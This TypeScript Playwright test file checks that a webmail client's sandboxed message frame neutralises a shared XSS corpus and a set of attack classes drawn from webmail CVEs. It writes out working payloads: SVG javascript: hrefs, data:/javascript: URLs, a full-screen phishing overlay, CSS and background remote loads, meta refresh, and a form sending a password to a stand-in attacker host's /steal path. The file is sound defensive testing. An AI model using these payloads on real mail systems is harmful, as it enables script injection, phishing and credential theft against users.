// Every payload of the shared XSS corpus, sent as an HTML mail and opened in
// the webmail in Chromium: no script runs (alert and friends, console, a
// canary in the top page), no request leaves for a host that is not this
// machine, nothing gets out of the frame (no navigation, no popup, no new
// element or script in the top page). Then one test per attack class seen in
// real webmail CVEs. Payloads also go into the subject, which must stay text.
import assert from "node:assert/strict";
import http from "node:http";
import path from "node:path";
import { test } from "node:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { useTestDatabase } from "../helpers/db.ts";
import { startWebServer, type WebServer } from "../helpers/web.ts";
import { launchBrowser, newContext } from "../helpers/browser.ts";
import { makeAccount } from "../helpers/accounts.ts";
import { buildMail, deliverRaw, signIn } from "../helpers/mail.ts";

const corpusFile = path.resolve(
  import.meta.dirname,
  "../../../shared/corpus/xss/dompurify-expect.mjs",
);
const corpus = (await import(corpusFile)).default as { title: string; payload: string }[];

const databaseUrl = await useTestDatabase();
const account = await makeAccount("victim");
const [web, browser]: [WebServer, Browser] = await Promise.all([
  startWebServer({ DATABASE_URL: databaseUrl }),
  launchBrowser(),
]);

// A loopback "attacker" host on another port: loads from it are remote loads.
const attackerHits: string[] = [];
const attacker = http.createServer((req, res) => {
  attackerHits.push(req.url ?? "");
  res.writeHead(200, { "content-type": "text/plain" });
  res.end("x");
});
await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
const attackerUrl = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`;
test.after(() => new Promise<void>((resolve) => attacker.close(() => resolve())));

type Watch = { findings: string[]; context: BrowserContext; page: Page };

/** A signed-in page whose every script execution path and request is recorded. */
async function watchedPage(): Promise<Watch> {
  const context = await newContext(browser, web.url);
  const findings: string[] = [];
  await context.addInitScript(() => {
    const w = window as unknown as Record<string, unknown>;
    w.__canary = "intact";
    for (const name of ["alert", "confirm", "prompt", "print"]) {
      w[name] = (...args: unknown[]) => {
        (w.__xss as unknown[]).push(`${name}(${args.join(",")})`);
      };
    }
    w.__xss = [];
  });
  context.on("page", (p) => findings.push(`popup ${p.url()}`));
  // Chromium reports a load the CSP refused as a request that failed with
  // ERR_BLOCKED_BY_CSP: it never went out. Anything else for another host,
  // answered or failed (no DNS here), did try to leave.
  const foreign = (url: string) => {
    const u = new URL(url);
    if (u.protocol === "data:" || u.protocol === "about:" || u.protocol === "blob:") return false;
    return u.hostname !== "127.0.0.1" || u.port !== String(web.port);
  };
  context.on("requestfinished", (request) => {
    if (foreign(request.url())) findings.push(`request ${request.url()}`);
  });
  context.on("requestfailed", (request) => {
    if (!foreign(request.url())) return;
    const reason = request.failure()?.errorText ?? "";
    if (!/ERR_BLOCKED_BY_CSP|^csp$/.test(reason))
      findings.push(`request ${request.url()} (${reason})`);
  });
  const page = await context.newPage();
  page.on("dialog", (dialog) => {
    findings.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => {
    const text = message.text();
    // The browser reporting what it refused is the defence working, not an attack.
    if (
      /Content Security Policy|Refused to|Blocked script execution|sandboxed|Failed to load resource|ERR_/i.test(
        text,
      )
    )
      return;
    findings.push(`console.${message.type()} ${text}`);
  });
  await signIn(page, account.address);
  return { findings, context, page };
}

/** Opens a message and checks that it stayed inside its frame. */
async function openAndCheck(watch: Watch, messageId: string): Promise<void> {
  await watch.page.goto(`/mail?m=${messageId}`, { waitUntil: "domcontentloaded" });
  await frameLoaded(watch, messageId);
}

/** Waits for the message's frame to load, then checks the top page. */
async function frameLoaded(watch: Watch, messageId: string): Promise<void> {
  const { page, findings } = watch;
  const frame = page.locator(`iframe[src^="/api/messages/${messageId}/frame"]`);
  const content = await (await frame.elementHandle())!.contentFrame();
  await content!.waitForLoadState("load");
  const state = await page.evaluate(() => ({
    canary: (window as unknown as { __canary: string }).__canary,
    xss: (window as unknown as { __xss: string[] }).__xss,
    frames: document.querySelectorAll("iframe").length,
    // Markup of a payload in the top document (the app itself has none of
    // these but its icons: app/_components/icons.tsx, decorative SVGs of
    // plain paths, which are not counted).
    foreign: [
      ...document.querySelectorAll(
        "svg, math, object, embed, form:not([role=search]), base, meta[http-equiv]",
      ),
    ]
      .filter(
        (n) =>
          !(
            n.matches('svg[class^="icon icon-"][aria-hidden="true"]') &&
            [...n.querySelectorAll("*")].every(
              (c) =>
                c.tagName === "path" &&
                [...c.attributes].every((a) => a.name === "d" || a.name === "fill"),
            )
          ),
      )
      .map((n) => n.tagName)
      .concat(
        [...document.querySelectorAll("*")].flatMap((n) =>
          [...n.attributes]
            .filter((a) => /^on/i.test(a.name))
            .map((a) => `${n.tagName}[${a.name}]`),
        ),
      ),
    href: location.pathname + location.search,
  }));
  if (state.canary !== "intact") findings.push(`canary ${state.canary}`);
  for (const x of state.xss) findings.push(`called ${x}`);
  if (state.frames !== 1) findings.push(`${state.frames} iframes in the top page`);
  if (state.foreign.length > 0)
    findings.push(`payload markup in the top page: ${state.foreign.join(", ")}`);
  if (!state.href.endsWith(`m=${messageId}`)) findings.push(`top page navigated to ${state.href}`);
  const sandbox = await frame.getAttribute("sandbox");
  if (sandbox !== "allow-popups allow-popups-to-escape-sandbox")
    findings.push(`sandbox ${sandbox}`);
}

test(
  `the ${corpus.length} corpus payloads run nothing and load nothing from outside`,
  { timeout: 600_000 },
  async () => {
    // Delivered in bulk first; opened one after another in one page.
    const base = Date.now() - corpus.length * 1000;
    const ids: { title: string; id: string }[] = [];
    for (const [i, item] of corpus.entries()) {
      const raw = await buildMail({
        from: "Mallory <mallory@example.org>",
        to: account.address,
        subject: item.payload.replace(/\s+/g, " ").slice(0, 300),
        html: `<div>${item.payload}</div>`,
      });
      const [copy] = await deliverRaw([account.id], raw, new Date(base + i * 1000));
      ids.push({ title: item.title, id: copy!.messageId });
    }
    // One page walks through them all with "j", as a reader would: each
    // payload gets its own frame load, and the top page must survive them all.
    const watch = await watchedPage();
    const failures: string[] = [];
    const newestFirst = [...ids].reverse();
    await openAndCheck(watch, newestFirst[0]!.id);
    for (const { title, id } of newestFirst.slice(1)) {
      watch.findings.length = 0;
      await watch.page.keyboard.press("j");
      await frameLoaded(watch, id);
      if (watch.findings.length > 0) failures.push(`${title}: ${watch.findings.join("; ")}`);
    }
    assert.deepEqual(failures, []);
    // The list, with every payload as a subject, ran nothing either.
    await watch.page.goto("/mail");
    await watch.page.getByTestId("message-row").first().waitFor();
    const xss = await watch.page.evaluate(() => (window as unknown as { __xss: string[] }).__xss);
    assert.deepEqual([...xss, ...watch.findings], []);
    await watch.context.close();
  },
);

// One message per attack class; each must neither run, load remotely nor escape.
const CVE_CLASSES: { name: string; html: string; check?: (watch: Watch) => Promise<void> }[] = [
  {
    name: "SVG <animate> setting href to javascript:",
    html: `<svg><a><animate attributeName="href" values="javascript:alert('svg')"/><text x="20" y="20">click</text></a></svg>
      <svg><set attributeName="onmouseover" to="alert('set')"/><animate attributeName="href" to="${attackerUrl}/svg-animate"/></svg>`,
  },
  {
    name: "<style> with position:fixed overlaying the app",
    html: `<style>.o{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999}</style>
      <div class="o"><a href="${attackerUrl}/phish">Your session expired: sign in again</a></div>`,
    async check({ page, findings }) {
      // The top page's controls are still what is under the pointer.
      for (const target of [
        page.getByLabel("Search mail"),
        page.getByRole("link", { name: /^Inbox/ }),
      ]) {
        const box = (await target.boundingBox())!;
        const hit = await page.evaluate(
          ({ x, y }) => document.elementFromPoint(x, y)?.closest("iframe") === null,
          { x: box.x + box.width / 2, y: box.y + box.height / 2 },
        );
        if (!hit) findings.push("the frame covers the app's controls");
      }
    },
  },
  {
    name: "data: and javascript: URLs in links, images and frames",
    html: `<a id="d" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a>
      <a id="j" href="javascript:alert('js')">js link</a><a href="  JaVaScRiPt:alert('js2')">js2</a>
      <img src="data:text/html,<script>alert('img')</script>"><iframe src="data:text/html,<script>alert('frame')</script>"></iframe>
      <object data="data:text/html,<script>alert('obj')</script>"></object><embed src="javascript:alert('embed')">`,
    async check({ page, findings }) {
      const frame = page.frameLocator('[data-testid="message-frame"]');
      for (const id of ["#d", "#j"]) {
        const href = await frame.locator(id).getAttribute("href");
        if (href !== null) findings.push(`${id} kept href ${href}`);
        await frame.locator(id).click();
      }
      await page.waitForTimeout(300);
    },
  },
  {
    name: "background= attributes loading remote images",
    html: `<table background="${attackerUrl}/table-bg.png"><tr><td background="${attackerUrl}/td-bg.png">x</td></tr></table>
      <body background="${attackerUrl}/body-bg.png">`,
  },
  {
    name: "CSS url() and @import for remote loads",
    html: `<style>@import url("${attackerUrl}/import.css"); p{background:url(${attackerUrl}/css-bg.png)}
      @font-face{font-family:x;src:url(${attackerUrl}/font.woff)} p{font-family:x}</style>
      <p style="background-image:url('${attackerUrl}/inline-bg.png')">styled</p><div style="list-style:url(${attackerUrl}/list.png)">y</div>`,
  },
  {
    name: "meta refresh, base, form and link tags",
    html: `<meta http-equiv="refresh" content="0;url=${attackerUrl}/refresh"><base href="${attackerUrl}/">
      <link rel="stylesheet" href="${attackerUrl}/link.css"><link rel="prefetch" href="${attackerUrl}/prefetch">
      <form action="${attackerUrl}/steal"><input name="password" value="x"><button id="go">Log in</button></form>`,
  },
];

test("attack classes from webmail CVEs stay inside the frame", async () => {
  const watch = await watchedPage();
  for (const item of CVE_CLASSES) {
    const raw = await buildMail({
      from: "Mallory <mallory@example.org>",
      to: account.address,
      subject: item.name,
      html: item.html,
    });
    const [copy] = await deliverRaw([account.id], raw);
    watch.findings.length = 0;
    await openAndCheck(watch, copy!.messageId);
    await item.check?.(watch);
    await watch.page.waitForTimeout(200);
    assert.deepEqual(watch.findings, [], item.name);
  }
  assert.deepEqual(attackerHits, [], "nothing was fetched from the attacker's host");
  await watch.context.close();
});
